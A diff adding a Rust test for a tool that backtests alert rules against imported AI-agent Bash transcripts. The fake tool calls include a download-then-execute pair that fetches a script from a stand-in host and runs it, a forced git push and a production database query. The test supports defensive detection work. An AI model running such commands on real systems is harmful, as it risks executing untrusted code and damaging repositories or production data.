@@ -53,3 +53,67 @@ fn a_rules_file_is_checked_with_line_and_column() {
     assert_eq!(ended.code(), 1);
     assert!(ended.stdout().contains("2:12: no such severity"), "{}", ended.stdout());
 }
+
+fn calls(session_id: &str, commands: &[&str]) -> Vec<serde_json::Value> {
+    let call = |(at, command): (usize, &&str)| {
+        serde_json::json!({
+            "type": "assistant", "uuid": format!("u-{at}"), "timestamp": format!("2026-11-20T07:00:{at:02}.000Z"),
+            "sessionId": session_id, "cwd": "/home/dev/app", "requestId": format!("{session_id}-r-{at}"),
+            "message": { "id": format!("{session_id}-m-{at}"), "model": "claude-opus-4-5", "content": [
+                { "type": "tool_use", "id": format!("{session_id}-t-{at}"), "name": "Bash", "input": { "command": command } }
+            ], "usage": { "input_tokens": 1, "output_tokens": 1 } },
+        })
+    };
+    commands.iter().enumerate().map(call).collect()
+}
+
+#[test]
+fn rules_are_held_against_history_before_they_hold() {
+    let world = World::new();
+    let nothing = world.run(&["rules", "backtest"]);
+    assert!(nothing.code() == 1 && nothing.stderr().contains("nothing is stored yet"), "{}", nothing.stderr());
+    let work = ["ls", "psql -h prod-1 -c 'select 1'", "curl -o /tmp/x.sh https://a.example/x.sh", "git push --force"];
+    world.write_transcript("aaaa", &calls("aaaa", &work));
+    world.write_transcript("bbbb", &calls("bbbb", &["sh /tmp/x.sh", "git push --force origin topic"]));
+    // The second half in the session of the first.
+    world.write_transcript(
+        "cccc",
+        &calls("cccc", &["curl -o /tmp/y.sh https://a.example/y.sh", "true", "sh /tmp/y.sh"]),
+    );
+    world.run(&["import", "--search"]).assert_success();
+
+    let all = world.run(&["rules", "backtest", "--json"]).json();
+    assert_eq!(all["call_count"], 9);
+    let stored = world.run(&["alerts", "list", "--all", "--json"]).json();
+    let key = |row: &serde_json::Value| (row["rule"].clone(), row["event_id"].clone());
+    let mut raised: Vec<_> = stored["alerts"].as_array().unwrap().iter().map(key).collect();
+    let mut found: Vec<_> = all["hits"].as_array().unwrap().iter().map(key).collect();
+    let text = |pair: &(serde_json::Value, serde_json::Value)| format!("{} {}", pair.0, pair.1);
+    raised.sort_by_key(text);
+    found.sort_by_key(text);
+    assert_eq!(found, raised, "history judged again raises what it raised when it was read");
+    assert!(found.iter().any(|(rule, event)| rule == "seq.download-then-exec" && event == "cccc~cccc-t-2"));
+
+    let one = world.run(&["rules", "backtest", "git.push-force", "--json"]).json();
+    assert_eq!((&one["rules"][0]["count"], &one["rules"][0]["session_count"]), (&2.into(), &2.into()));
+    let file = world.home().join("work/rules.toml");
+    std::fs::write(
+        &file,
+        "[[except]]\nrule = \"git.push-force\"\ncommand = \"* topic\"\nreason = \"ours\"\nuntil = 2030-01-01\n\
+         [own.prod]\ntitle = \"Touches production\"\nwhy = \"No.\"\nmatch = { name = \"psql\", arg = \"prod*\" }\n",
+    )
+    .unwrap();
+    let tried = world.run(&["rules", "backtest", "rules.toml", "--json"]).json();
+    let counts = |rule: &str| {
+        let rules = tried["rules"].as_array().unwrap();
+        let of = rules.iter().find(|of| of["rule"] == rule).unwrap();
+        ["count", "new", "gone"].map(|name| of[name].as_u64().unwrap())
+    };
+    assert_eq!((counts("git.push-force"), counts("own.prod")), ([1, 0, 1], [1, 1, 0]));
+    assert_eq!(tried["rules"].as_array().unwrap().len(), 2, "only what the file speaks of");
+    let shown = world.run(&["rules", "backtest", "rules.toml"]);
+    assert!(shown.stdout().contains("own.prod (new)") && shown.stdout().contains("(gone)"), "{}", shown.stdout());
+    assert_eq!(world.run(&["alerts", "list", "--all", "--json"]).json(), stored, "nothing is stored");
+    let wrong = world.run(&["rules", "backtest", "git.push-farce"]);
+    assert!(wrong.stderr().contains("did you mean git.push-force?"), "{}", wrong.stderr());
+}
